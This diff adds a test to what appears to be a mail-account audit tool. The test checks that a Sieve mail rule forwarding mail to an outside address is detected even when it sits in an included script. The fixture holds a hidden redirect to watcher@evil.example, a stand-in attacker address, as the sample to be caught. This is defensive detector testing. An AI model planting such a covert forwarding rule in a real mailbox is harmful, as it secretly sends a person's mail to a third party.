@@ -60,6 +60,21 @@ def test_the_active_script_is_judged_and_the_inactive_one_listed(dovecot) -> Non
     assert not result.gaps  # "Old Stuff" was known as a trash folder from IMAP SPECIAL-USE
 
 
+def test_a_forward_in_an_included_script_is_read_from_the_server(dovecot) -> None:  # type: ignore[no-untyped-def]
+    scripts = {
+        "hidden": 'redirect "Watcher <watcher@evil.example>";\n',
+        "main": 'require "include";\ninclude :personal "hidden";\ninclude :optional "absent";\n',
+    }
+    dovecot.upload(scripts, active="main")  # the included script first: Pigeonhole checks includes
+    result = _run(dovecot)
+    assert [(f.code, f.subject) for f in result.findings] == [
+        ("mail.rule.forwards-external", "A rule forwards mail to watcher@evil.example")
+    ]
+    assert '"hidden" (included by the active script, so judged with it)' in result.looked_at[0]
+    assert 'Sieve script "hidden", included from' in result.findings[0].evidence[0].source
+    assert result.status is Status.FOUND and not result.gaps
+
+
 def test_implicit_tls_reads_the_same(dovecot) -> None:  # type: ignore[no-untyped-def]
     dovecot.upload({"main": MAIN}, active="main")
     result = _run(dovecot, **{"sieve-port": str(dovecot.sieves_port), "sieve-tls": "implicit"})
